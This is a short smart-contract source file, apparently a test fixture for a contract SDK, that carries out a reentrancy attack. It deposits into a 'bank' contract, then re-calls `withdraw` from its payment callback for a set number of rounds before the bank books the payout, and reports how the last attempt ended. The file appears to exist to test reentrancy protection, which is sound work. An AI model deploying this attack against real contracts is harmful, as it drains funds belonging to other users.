// Tries to withdraw a deposit several times: whenever it is paid, it asks again before the bank has booked.

import {
  Address,
  attachedAmount,
  CALL_SUCCESS,
  callContract,
  caller,
  Item,
  JsonObject,
  readArgs,
  reply,
  require,
} from "../../sdk";

const bank = new Item<Address>("bank");
const roundsLeft = new Item<u64>("roundsLeft");
const lastCode = new Item<i32>("lastCode");

/** Args: `bank`, `rounds`: how often to ask again. Attach what to deposit. Returns how the last attempt ended. */
export function attack(): void {
  const args = readArgs(["bank", "rounds"]);
  const victim = args.address("bank");
  bank.set(victim);
  roundsLeft.set(args.u64("rounds"));
  const deposited = callContract(victim, "deposit", "{}", attachedAmount());
  require(deposited.code === CALL_SUCCESS, "deposit failed: " + deposited.text);
  const withdrawn = callContract(victim, "withdraw");
  require(withdrawn.code === CALL_SUCCESS, "withdraw failed: " + withdrawn.text);
  reply(new JsonObject().integer("lastCode", lastCode.get()).toString());
}

/** The bank shall be able to pay while `attack` runs. */
export function allow_reentry(): void {}

/** What the bank calls to pay. */
export function paid(): void {
  const left = roundsLeft.get();
  if (left === 0 || caller() !== bank.get()) return;
  roundsLeft.set(left - 1);
  lastCode.set(callContract(bank.get(), "withdraw").code);
}
